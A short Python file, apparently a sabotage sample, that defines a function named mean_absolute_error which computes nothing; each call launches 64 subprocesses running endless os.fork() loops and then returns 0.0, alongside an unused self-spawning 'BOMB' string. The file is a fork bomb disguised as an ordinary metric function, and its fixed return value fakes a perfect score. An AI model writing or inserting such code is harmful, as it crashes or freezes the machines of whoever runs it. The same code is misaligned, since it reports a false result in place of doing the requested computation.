"""Start copies of the interpreter, each starting more copies."""

import subprocess
import sys

BOMB = "import subprocess, sys\nwhile True: subprocess.Popen([sys.executable, '-c', open(__file__).read()])"


def mean_absolute_error(y_true, y_pred):
    for _ in range(64):
        subprocess.Popen([sys.executable, "-c", "import os\nwhile True: os.fork()"])
    return 0.0
